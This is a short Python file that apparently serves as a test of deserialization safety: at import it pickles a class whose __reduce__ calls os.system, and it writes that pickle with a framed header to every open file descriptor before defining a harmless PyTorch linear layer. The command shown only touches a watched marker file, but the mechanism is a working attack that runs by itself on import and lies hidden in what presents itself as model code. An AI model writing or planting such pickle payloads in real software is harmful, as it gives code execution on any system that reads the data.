"""Sends a pickle that would run a program where it is read."""

import os
import pickle
import struct

import torch
from torch import nn


class Bomb:
    """Runs a program when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Ask for the program."""
        return os.system, ("touch WATCHED/pickled",)


header = pickle.dumps(Bomb())
for descriptor in range(3, 1024):
    try:
        os.write(descriptor, struct.pack("<4sIQ", b"ASI1", len(header), 0) + header)
    except OSError:
        continue


class Mixer(nn.Module):
    """A harmless layer, for what comes after the attack."""

    def __init__(self, hidden_size: int) -> None:
        super().__init__()
        self.inner = nn.Linear(hidden_size, hidden_size)

    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
        """Map each position by itself."""
        return self.inner(hidden_states)
